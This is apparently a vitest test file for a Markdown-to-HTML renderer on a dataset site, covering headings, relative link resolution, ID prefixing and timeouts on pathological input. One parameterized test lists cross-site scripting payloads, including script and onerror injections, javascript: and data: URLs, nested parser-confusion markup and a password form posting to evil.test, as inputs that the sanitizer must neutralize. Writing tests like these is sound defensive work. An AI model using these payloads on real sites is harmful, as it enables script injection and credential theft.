import type { Element, Nodes, Root } from "hast";
import { fromParse5 } from "hast-util-from-parse5";
import { parseFragment } from "parse5";
import { describe, expect, it } from "vitest";
import { requestContext } from "../../log.ts";
import { renderMarkdown } from "./render-markdown.ts";

const place = { base: "/datasets/ada/tides", revision: "feature/x", folder: "docs" };

async function elementsOf(text: string, at = place): Promise<Element[]> {
  const html = await renderMarkdown(text, at);
  if (html === undefined) throw new Error("it was not rendered");
  const found: Element[] = [];
  const visit = (node: Nodes) => {
    if (node.type === "element") found.push(node);
    if ("children" in node) node.children.forEach(visit);
  };
  visit(fromParse5(parseFragment(html)));
  return found;
}

const named = (elements: Element[], name: string) => elements.filter(({ tagName }) => tagName === name);
const textOf = (node: Nodes): string =>
  "value" in node ? node.value : "children" in node ? node.children.map(textOf).join("") : "";

const hrefOf = async (address: string) => named(await elementsOf(`<a href="${address}">x</a>`), "a")[0]?.properties.href;
const imageOf = async (address: string) => named(await elementsOf(`<img src="${address}" alt="x">`), "img")[0]?.properties.src;

describe("Markdown", () => {
  it("is laid out with headings below the page's own, and without its front matter", async () => {
    const elements = await elementsOf(
      "---\ntags: [sea]\n---\n# Tides\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\nwhy[^1]\n\n[^1]: so\n\n```js\nlet a = 1\n```\n",
    );
    expect(elements[0]).toMatchObject({ tagName: "h2", properties: { id: "md-tides" } });
    expect(named(elements, "td").map(textOf)).toEqual(["1", "2"]);
    const spans = named(elements, "span").map(({ properties }) => properties.className);
    expect(spans).toEqual([["task-box", "task-done"], ["sr-only"], ["hljs-keyword"], ["hljs-number"]]);
    expect(elements.map(textOf)).toContain("Done: ");
    for (const scrolling of [named(elements, "pre")[0], named(elements, "div")[0]]) {
      expect(scrolling?.properties.tabIndex).toBe(0);
    }
    const [reference] = named(elements, "a");
    expect(elements.map(({ properties }) => `#${properties.id}`)).toContain(reference?.properties.href);
    expect(elements.map(textOf).join()).not.toContain("sea");
  });

  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert%281%29)",
    "[x](JaVaScRiPt&colon;alert(1))",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x)",
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<p style='position:fixed;inset:0'>x</p><style>*{display:none}</style>",
    "<form action=//evil.test><input name=password type=password><button>x</button></form>",
    "<iframe src=//evil.test></iframe><object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=//evil.test'><base href=//evil.test><link rel=stylesheet href=//evil.test>",
    "<video src=//evil.test/x.mp4 autoplay></video><audio src=x></audio>",
    "<picture><source srcset=//evil.test/x.png><img src=//evil.test/y.png alt=z></picture>",
    "<a href=x target=_top download ping=//evil.test class=fixed tabindex=1 accesskey=a>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
    "<div is=x-y popover popovertarget=account-menu contenteditable slot=a part=b data-x=1>x</div>",
    "<details ontoggle=alert(1) open>x</details>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><?php x ?><![CDATA[<script>x</script>]]>",
  ])("contains no code that runs and no elements that imitate ours: %s", async (text) => {
    const elements = await elementsOf(text);
    const harmless = new Set([
      "href",
      "src",
      "alt",
      "loading",
      "rel",
      "id",
      "open",
      "title",
      "tabIndex",
      "role",
      "ariaLabel",
      "className",
    ]);
    for (const { tagName, properties } of elements) {
      expect(tagName).toMatch(/^(a|p|div|img|span|details|table|tbody|tr|td|br|pre|code)$/);
      for (const [name, value] of Object.entries(properties)) {
        expect(harmless, `${tagName} ${name}`).toContain(name);
        if (name === "href") expect(value).toMatch(/^(#|https?:\/\/|\/datasets\/ada\/tides(\/blob\/feature%2Fx\/|$))/);
        if (name === "tabIndex") expect(value).toBe(0);
        if (name === "role") expect(value).toBe("group");
        if (name === "ariaLabel") expect(value).toBe("Table");
        if (name === "className")
          expect(["task-box", "sr-only", "table-scroll"]).toEqual(expect.arrayContaining(value as string[]));
        if (name === "src") expect(value).toMatch(/^\/datasets\/ada\/tides\/resolve\/feature%2Fx\//);
      }
    }
    expect(elements.map(textOf).join()).not.toMatch(/display:none/);
  });

  it("creates no ID or name that shadows one of the page or of `document`", async () => {
    const elements = await elementsOf("# main\n\n## cookie\n\n<p id=main>x</p><p id=account-menu>x</p><a name=location>x</a>");
    const ids = elements.flatMap(({ properties }) => (properties.id ? [properties.id] : []));
    expect(ids).toHaveLength(4);
    for (const id of ids) expect(id).toMatch(/^md-/);
    expect(elements.every(({ properties }) => properties.name === undefined)).toBe(true);
    const comment = await elementsOf("# main\n\n[up](#main)", { ...place, idPrefix: "md-7-" } as typeof place);
    expect(comment[0]?.properties.id).toBe("md-7-main");
    expect(named(comment, "a")[0]?.properties.href).toBe("#md-7-main");
  });

  it("resolves relative links and images within the repository and its revision", async () => {
    const at = "/datasets/ada/tides/blob/feature%2Fx";
    expect(await hrefOf("a b.md?x=1#usage")).toBe(`${at}/docs/a%20b.md#md-usage`);
    expect(await hrefOf("../LICENSE")).toBe(`${at}/LICENSE`);
    expect(await hrefOf("/data/x.csv#L3")).toBe(`${at}/data/x.csv#L3`);
    expect(await hrefOf("../../../../settings/account")).toBe(`${at}/settings/account`);
    expect(await hrefOf("%2e%2e/%2e%2e/x")).toBe(`${at}/x`);
    expect(await hrefOf("é/ü.md")).toBe(`${at}/docs/%C3%A9/%C3%BC.md`);
    expect(await hrefOf("#usage")).toBe("#md-usage");
    expect(await hrefOf("..")).toBe("/datasets/ada/tides");
    expect(await hrefOf("https://example.test/a")).toBe("https://example.test/a");
    expect(await imageOf("../img/a.png")).toBe("/datasets/ada/tides/resolve/feature%2Fx/img/a.png");
    expect(await hrefOf("a.md")).toBe(`${at}/docs/a.md`);
    expect(named(await elementsOf("[x](a.md) ![x](a.png)", {} as typeof place), "a")[0]?.properties.href).toBeUndefined();
  });

  it("shows a link instead of an image of another site", async () => {
    for (const address of [
      "http://evil.test/x.png",
      "//evil.test/x.png",
      "/\\evil.test/x.png",
      "\\\\evil.test/x.png",
      "https:evil.test/x",
    ]) {
      expect(await imageOf(address), address).toBeUndefined();
    }
    const [link] = named(await elementsOf("![Build state](https://evil.test/x.svg)"), "a");
    expect(link).toMatchObject({ properties: { href: "https://evil.test/x.svg", rel: ["nofollow", "noopener", "ugc"] } });
    expect(textOf(link as Element)).toBe("Build state");
    const badge = await elementsOf("[![Build](https://evil.test/x.svg)](https://example.test/)");
    expect(named(badge, "a").map(textOf)).toEqual(["Build"]);
  });

  it("S138 is rendered or given up in time", { timeout: 120_000 }, async () => {
    const texts = [
      "[".repeat(1024 * 1024),
      "> ".repeat(100_000),
      "<div>".repeat(100_000),
      `[a]: http://example.test/${"x".repeat(100_000)}\n\n${"[a] ".repeat(100_000)}`,
      "x".repeat(2 * 1024 * 1024),
    ];
    const mainMs = await mainThreadMs(async () => {
      const outcomes = await Promise.all(texts.map((text) => renderMarkdown(text)));
      expect(outcomes.filter((html) => html === undefined).length).toBeGreaterThanOrEqual(4);
    });
    // A subprocess may take three seconds for each text. The event loop only passes texts on.
    expect(mainMs).toBeLessThan(1_500);
    expect((await elementsOf("# still here"))[0]?.tagName).toBe("h2");
  });

  it("S137 is not rendered on the event loop, even if it is large", {
    timeout: 180_000,
  }, async () => {
    const costs: number[] = [];
    let html: string | undefined;
    for (const title of ["one", "two", "three", "four", "five", "six"]) {
      const mainMs = await mainThreadMs(async () => {
        html = await renderMarkdown(`# ${title}\n\n${"*a* ".repeat(6_000)}`);
      });
      costs.push(mainMs);
    }
    const parseMs = await mainThreadMs(() => parseFragment(html as string));
    expect(html?.match(/<em>/g)).toHaveLength(6_000);
    // Rendering takes about fifty times as long as parsing its HTML.
    expect(Math.min(...costs)).toBeLessThan(5 * parseMs);
  });

  it("S137 waits for only a few of a stranger's twenty hostile READMEs", {
    timeout: 120_000,
  }, async () => {
    await renderMarkdown("# begun");
    const hostile = "*a_".repeat(20_000);
    const gone = new AbortController();
    const whenClosed = (leave: () => void) => {
      if (gone.signal.aborted) queueMicrotask(leave);
      else gone.signal.addEventListener("abort", leave);
      return () => gone.signal.removeEventListener("abort", leave);
    };
    const from = (ip: string, text: string, base: string, folder: string) =>
      requestContext.run({ requestId: "test", ip, whenClosed }, () => renderMarkdown(text, { ...place, base, folder }));
    let finished = 0;
    const others = Array.from({ length: 20 }, (_, at) =>
      Promise.all([
        from("192.0.2.1", `${at} ${hostile}`, "/mallory/x", ""),
        from("192.0.2.1", hostile, "/mallory/x", `${at}`),
      ]).then(() => finished++),
    );
    expect(await from("192.0.2.2", "# mine", "/ada/tides", "docs")).toContain("mine</h2>");
    expect(finished).toBeLessThan(5);
    gone.abort();
    await Promise.all(others);
  });

  it("S137 is not rendered if a short text would become a large page", async () => {
    const address = `http://x/${"&".repeat(1_200)}`;
    expect(await renderMarkdown(`[a]: ${address}\n\n${"[a]\n".repeat(300)}`, place)).toBeUndefined();
    expect(await renderMarkdown(`\`\`\`json\n[${"1,".repeat(1_000)}1]\n\`\`\`\n`, place)).toContain("hljs-number");
  });

  it("S137 that took too long is recognized wherever it appears", { timeout: 60_000 }, async () => {
    const text = `again ${"*a_".repeat(20_000)}`;
    const timeOf = async (folder: string) => {
      const start = Date.now();
      expect(await renderMarkdown(text, { ...place, folder })).toBeUndefined();
      return Date.now() - start;
    };
    const first = await timeOf("one");
    expect(await timeOf("two")).toBeLessThan(first / 10);
  });

  it("S137 is rendered even if a copy in a folder with a very long name is not", { timeout: 60_000 }, async () => {
    const long = { ...place, base: "/datasets/mallory/x", folder: "ü".repeat(1_950) };
    // Two hundred long links make the page too large. Four thousand also take too long.
    for (const links of [200, 4_000]) {
      const text = Array.from({ length: links }, (_, at) => `[a](${at}.md)`).join(" ");
      expect(await renderMarkdown(text, long), `${links}`).toBeUndefined();
      expect(await renderMarkdown(text, place), `${links}`).toContain("docs/0.md");
    }
  });

  it.each(["li", "dd", "dt", "td", "tr", "summary", "p", "a", "rt"])(
    "with a bare <%s> stays within the element that contains the text",
    async (name) => {
      const text = `<${name}>one</${name}>two<div><${name}>three</${name}></div>`;
      for (const [list, item] of [
        ["ol", "li"],
        ["dl", "dd"],
        ["dl", "dt"],
      ]) {
        const page = `<${list}><${item}><div>${await renderMarkdown(text)}</div>after</${item}></${list}>`;
        const [root] = (fromParse5(parseFragment(page)) as Root).children as Element[];
        expect(root?.children).toHaveLength(1);
        expect(textOf(root?.children[0] as Element)).toMatch(/one.*two.*three.*after/s);
      }
    },
  );

  it.each(["", " ", "\0", "\u{feff}# x", "\ud800", "---\n---\n", "---\na: [", "\r\n\r\n# x\r"])("accepts %j", async (text) => {
    expect(await renderMarkdown(text)).toBeTypeOf("string");
  });
});

async function mainThreadMs(work: () => unknown): Promise<number> {
  const before = process.threadCpuUsage();
  await work();
  const { user, system } = process.threadCpuUsage(before);
  return (user + system) / 1_000;
}
